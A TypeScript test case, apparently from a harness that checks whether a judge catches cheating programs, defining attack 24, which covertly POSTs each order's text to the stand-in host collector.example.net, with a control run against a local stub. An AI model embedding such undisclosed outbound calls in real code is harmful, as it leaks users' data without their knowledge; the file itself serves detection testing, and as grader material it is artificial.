import { createServer } from 'node:http'
import type { AddressInfo } from 'node:net'
import type { Attack } from '../attack.ts'
import { serveFree } from '../naive.ts'
import { cheat } from '../program.ts'
import { outcomeOf } from '../stand.ts'

const serve = (url: string): string =>
  `try { answer = { ...answer, told: (await fetch('${url}', { method: 'POST', body: text })).ok } } catch { answer = { ...answer, told: false } }`

export const callSomethingElse: Attack = {
  number: 24,
  name: 'call something else',
  how: 'sends every order to a host that the project has no twin of, and says nothing of it',
  expected: ['fail'],
  on: 'project',
  run: async (stand) =>
    outcomeOf(
      await stand.judge(stand.cheatWith({ serve: serve('https://collector.example.net/in') })),
      /collector\.example\.net/,
    ),
  async control(stand) {
    const stub = createServer((_, response) => response.end('{}'))
    await new Promise<void>((resolve) => stub.listen(0, '127.0.0.1', resolve))
    const url = `http://127.0.0.1:${(stub.address() as AddressInfo).port}/in`
    const { answers } = await serveFree(stand.scratch(), cheat({ serve: serve(url) }), [{ order: 'o1' }])
    stub.closeAllConnections()
    stub.close()
    return { works: answers[0]?.told === true, how: 'a run with the network of its machine' }
  },
}
